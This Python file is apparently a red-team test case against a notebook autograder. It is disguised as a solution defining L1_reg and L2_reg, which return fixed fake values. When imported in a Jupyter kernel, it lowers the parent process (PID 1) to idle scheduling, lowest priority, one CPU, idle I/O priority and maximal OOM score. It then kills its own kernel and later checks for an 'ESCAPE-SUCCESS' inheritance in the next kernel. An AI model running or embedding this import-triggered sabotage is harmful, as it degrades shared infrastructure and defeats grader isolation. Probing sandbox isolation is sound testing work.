"""Attack: make the warm parent, and so every kernel it forks later, run last (see README.md)."""

import ctypes
import os
import sys

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
SCHED_IDLE = 5
SYS_IOPRIO_SET, SYS_IOPRIO_GET = {"x86_64": (251, 252), "aarch64": (30, 31)}.get(os.uname().machine, (None, None))
IOPRIO_WHO_PROCESS, IOPRIO_CLASS_IDLE = 1, 3
libc = ctypes.CDLL(None, use_errno=True)


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _state(pid):
    state = {"policy": os.sched_getscheduler(pid), "nice": os.getpriority(os.PRIO_PROCESS, pid),
             "cpus": sorted(os.sched_getaffinity(pid))}
    if SYS_IOPRIO_GET:
        state["ioprio_class"] = libc.syscall(SYS_IOPRIO_GET, IOPRIO_WHO_PROCESS, pid) >> 13
    try:
        with open(f"/proc/{pid}/oom_score_adj") as handle:
            state["oom_score_adj"] = int(handle.read())
    except OSError:
        pass
    return state


def _try(name, action):
    try:
        action()
        _say(f"{name}: done")
    except OSError as error:
        _say(f"{name}: {error!r}")


def _write_oom():
    with open("/proc/1/oom_score_adj", "w") as handle:
        handle.write("1000")


def _slow_the_parent():
    """Scheduling calls on PID 1 need only the same uid (making a process run slower needs no capability)."""
    _say(f"PID 1 before: {_state(1)}")
    _try("sched_setscheduler(1, SCHED_IDLE)", lambda: os.sched_setscheduler(1, SCHED_IDLE, os.sched_param(0)))
    _try("setpriority(1, 19)", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19))
    _try("sched_setaffinity(1, {first CPU})", lambda: os.sched_setaffinity(1, {min(os.sched_getaffinity(1))}))
    if SYS_IOPRIO_SET:
        done = libc.syscall(SYS_IOPRIO_SET, IOPRIO_WHO_PROCESS, 1, IOPRIO_CLASS_IDLE << 13)
        _say(f"ioprio_set(1, IDLE): {'done' if done == 0 else os.strerror(ctypes.get_errno())}")
    _try("/proc/1/oom_score_adj = 1000", _write_oom)
    _say(f"PID 1 after: {_state(1)}")


def _report():
    """In the kernel after the death: what did this kernel inherit from its parent?"""
    mine = _state(os.getpid())
    _say(f"this kernel: {mine}")
    if mine["policy"] == SCHED_IDLE or mine["nice"] == 19 or mine.get("ioprio_class") == IOPRIO_CLASS_IDLE \
            or mine.get("oom_score_adj") == 1000 or len(mine["cpus"]) == 1 < os.cpu_count():
        _say(f"{MARK} a later kernel inherited the scheduling a dead kernel gave the warm parent")


if "ipykernel" in sys.modules and os.getpid() != 1:
    if os.environ.pop("DLCV_REPORT_ONLY", None):
        _report()
    else:
        _slow_the_parent()
        _say("ending this kernel: the grader starts the next one")
        os._exit(1)
